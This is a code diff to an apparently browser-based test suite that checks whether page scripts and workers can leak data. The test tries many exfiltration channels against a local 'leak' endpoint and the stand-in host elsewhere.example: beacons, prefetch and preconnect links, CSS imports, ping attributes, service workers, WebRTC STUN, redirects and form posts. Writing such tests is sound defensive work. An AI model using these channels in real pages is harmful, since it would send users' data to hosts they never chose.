@@ -1,3 +1,5 @@
+import { createSocket } from 'node:dgram';
+import { type AddressInfo, createServer } from 'node:net';
 import { JourneyPage } from './journey-page.ts';
 import { expect, test } from './served-page.ts';
 
@@ -104,16 +106,114 @@ test('code inside the page, or inside a worker of it, cannot send anything', asy
   }, address);
   expect(attempts).toEqual(Object.fromEntries(Object.keys(attempts).map((way) => [way, 'refused'])));
 
-  // A beacon answers true before the policy is applied, and a form navigates: only the server knows.
-  await page.evaluate((to) => {
-    navigator.sendBeacon(`${to}leak?beacon`, 'patient=1');
-    const form = document.createElement('form');
-    form.action = `${to}leak`;
-    form.method = 'post';
-    document.body.append(form);
-    form.submit();
-  }, address);
+  // A beacon answers true before the policy is applied, and the rest says nothing at all: only the servers know.
+  const stun = await udpServer();
+  const other = await tcpServer();
+  const rtc = await page.evaluate(
+    ({ to, stunPort, otherPort }) => {
+      navigator.sendBeacon(`${to}leak?beacon`, 'patient=1');
+      const add = (tag: string, properties: Record<string, string>) => {
+        const element = Object.assign(document.createElement(tag), properties);
+        document.body.append(element);
+        return element;
+      };
+      const link = (rel: string, href: string) => add('link', { rel, href });
+      for (const rel of [
+        'prefetch',
+        'modulepreload',
+        'stylesheet',
+        'icon',
+        'manifest',
+        'prerender',
+        'preload',
+      ])
+        link(rel, `${to}leak?${rel}`);
+      link('preconnect', `http://127.0.0.1:${otherPort}/`);
+      add('script', { src: `${to}leak.js?script` });
+      const rules = { prefetch: [{ source: 'list', urls: ['/leak?speculation'] }] };
+      add('script', { type: 'speculationrules', textContent: JSON.stringify(rules) });
+      for (const tag of ['iframe', 'embed', 'video', 'audio']) add(tag, { src: `${to}leak?${tag}` });
+      add('object', { data: `${to}leak?object` });
+      add('style', {
+        textContent: `@import "${to}leak?import"; @font-face { font-family: leak; src: url(${to}leak?font) }
+          body { font-family: leak; background: url(${to}leak?background) }`,
+      });
+      add('a', { href: '#/data', ping: `${to}leak?ping` }).click();
+      import(`${to}leak.js?module`).catch(() => undefined);
+      new Worker(`${to}leak.js?own-worker`);
+      navigator.serviceWorker.register(`${to}leak.js?service-worker`).catch(() => undefined);
+      fetch(`${to}leak?frame`).catch(() => undefined);
+      const frame = document.createElement('iframe');
+      document.body.append(frame);
+      const inFrame = frame.contentWindow as (Window & typeof globalThis) | null;
+      inFrame?.fetch(`${to}leak?from-frame`).catch(() => undefined);
+      if (typeof RTCPeerConnection === 'undefined') return 'taken away';
+      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stunPort}` }] });
+      peer.createDataChannel('leak');
+      void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+      return 'there';
+    },
+    { to: address, stunPort: stun.port, otherPort: other.port },
+  );
+  expect(rtc).toBe('taken away');
+
+  // Being led elsewhere is no connection: the page refuses it itself.
+  const ways: readonly ((to: string) => unknown)[] = [
+    (to) => location.assign(`${to}leak?assign`),
+    (to) => location.replace(`${to}leak?replace`),
+    (to) => window.open(`${to}leak?window`),
+    (to) => window.open(`${to}leak?self`, '_self'),
+    (to) => Object.assign(document.createElement('a'), { href: `${to}leak?link` }).click(),
+    (to) => Object.assign(document.createElement('a'), { href: `${to}leak?saved`, download: 'leak' }).click(),
+    (to) => {
+      const meta = { httpEquiv: 'refresh', content: `0;url=${to}leak?refresh` };
+      document.head.append(Object.assign(document.createElement('meta'), meta));
+    },
+    (to) => {
+      const frame = document.createElement('iframe');
+      document.body.append(frame);
+      if (frame.contentWindow !== null) frame.contentWindow.parent.location = `${to}leak?from-frame`;
+    },
+    (to) => {
+      const form = Object.assign(document.createElement('form'), { action: `${to}leak`, method: 'post' });
+      document.body.append(form);
+      form.submit();
+    },
+  ];
+  for (const to of [address, 'https://elsewhere.example/']) {
+    for (const way of ways) {
+      await page.evaluate(way, to);
+      await page.waitForTimeout(60);
+      expect(page.url(), way.toString()).toBe(`${address}#/data`);
+    }
+  }
   await page.waitForTimeout(500);
   expect(served.requests.slice(loaded).filter((request) => request.includes('leak'))).toEqual([]);
   expect(context.pages()).toHaveLength(1);
+  expect([stun.received(), other.received()]).toEqual([0, 0]);
+  stun.close();
+  other.close();
 });
+
+/** Counts the packets that reach it: what WebRTC would ask for its own address. */
+async function udpServer() {
+  const socket = createSocket('udp4');
+  let packets = 0;
+  socket.on('message', () => {
+    packets += 1;
+  });
+  await new Promise<void>((bound) => socket.bind(0, '127.0.0.1', bound));
+  return { port: socket.address().port, received: () => packets, close: () => socket.close() };
+}
+
+/** Counts the connections that are opened to it, whatever they say. */
+async function tcpServer() {
+  let connections = 0;
+  const server = createServer((socket) => {
+    connections += 1;
+    socket.destroy();
+  });
+  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
+  const { port } = server.address() as AddressInfo;
+  return { port, received: () => connections, close: () => server.close() };
+}
